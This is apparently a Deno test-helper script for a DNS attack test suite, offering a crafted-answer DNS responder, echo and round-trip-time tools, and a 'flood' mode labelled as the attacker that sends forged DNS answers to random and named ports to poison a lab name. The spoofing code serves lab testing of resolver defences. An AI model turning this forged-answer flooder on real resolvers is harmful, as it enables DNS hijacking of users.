// Small network tools for tests/dns_attack_test.ts, run inside the lab's namespaces:
//
//   responder ADDR           a DNS server on ADDR:53 (UDP) with answers made to order:
//                              max.*       A records filling a ~65,000-byte datagram
//                              hijack.*    A 198.18.0.99
//                              type HTTPS  an HTTPS record with ipv4hint and ipv6hint
//                              otherwise   A 198.18.0.1 (use-application-dns.net too)
//   flood SRC DST COUNT SECONDS PORT...
//                            the attacker: COUNT forged DNS answers from SRC:53 to DST, to
//                            random ports and to each PORT in turn, each with A records of five
//                            fresh pq1 names pointing at SRC; stops after SECONDS at the latest
//   echo PORT                a TCP echo server on 0.0.0.0:PORT
//   rtt HOST PORT SECONDS    one TCP connection, one byte back and forth as fast as it
//                            returns; prints one line per round trip: "RTT <t ms> <rtt ms>"
//
// Needs --unstable-net for the UDP parts. Prints READY once listening or connected.

import { formatPq1Label } from "../../lib/core/names.ts";
import { wireName } from "./dns_answers.ts";

const MAX_PACKET = 65_000;

function u16(v: number): number[] {
  return [v >> 8, v & 0xff];
}

/** Question name (as text, lower case), its type, and where the question ends. */
function readQuery(q: Uint8Array): { name: string; type: number; end: number } | null {
  if (q.length < 17) return null;
  const labels: string[] = [];
  let o = 12;
  while (o < q.length && q[o] !== 0) {
    const n = q[o];
    if (n > 63 || o + 1 + n >= q.length) return null;
    labels.push(new TextDecoder().decode(q.subarray(o + 1, o + 1 + n)).toLowerCase());
    o += 1 + n;
  }
  if (o + 5 > q.length) return null;
  return { name: labels.join("."), type: (q[o + 1] << 8) | q[o + 2], end: o + 5 };
}

function answerTo(q: Uint8Array): Uint8Array | null {
  const query = readQuery(q);
  if (!query) return null;
  const head = [q[0], q[1], 0x81, 0x80, 0, 1, 0, 0, 0, 0, 0, 0, ...q.subarray(12, query.end)];
  const records: number[][] = [];
  const a = (addr: number[], ttl = 60) => [0xc0, 12, 0, 1, 0, 1, 0, 0, ...u16(ttl), 0, 4, ...addr];
  if (query.type === 65) {
    const rdata = [
      ...u16(1),
      0,
      ...u16(1),
      ...u16(3),
      2,
      0x68,
      0x32, // alpn h2
      ...u16(4),
      ...u16(4),
      198,
      18,
      0,
      1, // ipv4hint
      ...u16(6),
      ...u16(16),
      0x20,
      0x01,
      0x0d,
      0xb8,
      ...new Array(11).fill(0),
      1, // ipv6hint
    ];
    records.push([0xc0, 12, ...u16(65), 0, 1, 0, 0, 0, 60, ...u16(rdata.length), ...rdata]);
  } else if (query.name.startsWith("max.")) {
    const room = MAX_PACKET - 28 - head.length;
    for (let i = 0; i < Math.floor(room / 16); i++) {
      records.push(a([198, 18, 2 + (i >> 8), i & 0xff]));
    }
  } else if (query.name.startsWith("hijack.")) {
    records.push(a([198, 18, 0, 99]));
  } else {
    records.push(a([198, 18, 0, 1]));
  }
  const out = new Uint8Array(head.length + records.reduce((n, r) => n + r.length, 0));
  out.set(head);
  out[6] = records.length >> 8;
  out[7] = records.length & 0xff;
  let o = head.length;
  for (const r of records) {
    out.set(r, o);
    o += r.length;
  }
  return out;
}

async function responder(addr: string): Promise<void> {
  const sock = Deno.listenDatagram({ transport: "udp", hostname: addr, port: 53 });
  console.log("READY");
  for await (const [q, from] of sock) {
    const answer = answerTo(q);
    if (answer) await sock.send(answer, from);
  }
}

/** Forged answers: the question is www.lab.test, the records name five fresh pq1 servers. */
function forgedAnswer(seq: number, target: number[]): Uint8Array {
  const bytes: number[] = [...u16(seq & 0xffff), 0x81, 0x80, 0, 1, 0, 5, 0, 0, 0, 0];
  bytes.push(...wireName("www.lab.test"), 0, 1, 0, 1);
  for (let k = 0; k < 5; k++) {
    const hash = new Uint8Array(32);
    new DataView(hash.buffer).setUint32(0, seq);
    hash[4] = k;
    const label = new TextEncoder().encode(formatPq1Label(hash, { crypto: 42424, key: 42425 }));
    bytes.push(label.length, ...label, 0xc0, 16); // + "lab.test" of the question
    bytes.push(0, 1, 0, 1, 0, 0, 0x0e, 0x10, 0, 4, ...target);
  }
  return new Uint8Array(bytes);
}

async function flood(src: string, dst: string, count: number, seconds: number, ports: number[]) {
  const sock = Deno.listenDatagram({ transport: "udp", hostname: src, port: 53 });
  const target = src.split(".").map(Number);
  const t0 = performance.now();
  let sent = 0;
  let port = 1;
  console.log("READY");
  while (sent < count && performance.now() - t0 < seconds * 1000) {
    const batch: Promise<number>[] = [];
    for (let i = 0; i < 64 && sent < count; i++, sent++) {
      // Every fifth to a named port (the resolver conversation's, the tunnel's), else random.
      const p = sent % 5 === 0 && ports.length > 0
        ? ports[(sent / 5) % ports.length]
        : 1024 + ((port = (port * 1103515245 + 12345) >>> 0) % 64500);
      batch.push(
        sock.send(forgedAnswer(sent, target), { transport: "udp", hostname: dst, port: p }),
      );
    }
    await Promise.allSettled(batch);
  }
  const s = (performance.now() - t0) / 1000;
  console.log(`SENT ${sent} in ${s.toFixed(2)} s`);
  sock.close();
}

async function echo(port: number): Promise<void> {
  const listener = Deno.listen({ hostname: "0.0.0.0", port });
  console.log("READY");
  for await (const conn of listener) {
    conn.setNoDelay(true);
    (async () => {
      const buf = new Uint8Array(64);
      for (;;) {
        const n = await conn.read(buf);
        if (n === null) break;
        await conn.write(buf.subarray(0, n));
      }
    })().catch(() => {}).finally(() => conn.close());
  }
}

async function rtt(host: string, port: number, seconds: number): Promise<void> {
  const conn = await Deno.connect({ hostname: host, port });
  conn.setNoDelay(true);
  console.log("READY");
  const t0 = performance.now();
  const one = new Uint8Array([7]);
  const buf = new Uint8Array(64);
  const lines: string[] = [];
  while (performance.now() - t0 < seconds * 1000) {
    const s = performance.now();
    await conn.write(one);
    if (await conn.read(buf) === null) break;
    const e = performance.now();
    lines.push(`RTT ${(s - t0).toFixed(3)} ${(e - s).toFixed(3)}`);
  }
  conn.close();
  console.log(lines.join("\n"));
  console.log("DONE");
}

const [mode, ...args] = Deno.args;
if (mode === "responder") await responder(args[0]);
else if (mode === "flood") {
  await flood(args[0], args[1], Number(args[2]), Number(args[3]), args.slice(4).map(Number));
} else if (mode === "echo") await echo(Number(args[0]));
else if (mode === "rtt") await rtt(args[0], Number(args[1]), Number(args[2]));
else {
  console.error("usage: dns_lab_tools.ts responder|flood|echo|rtt ...");
  Deno.exit(2);
}
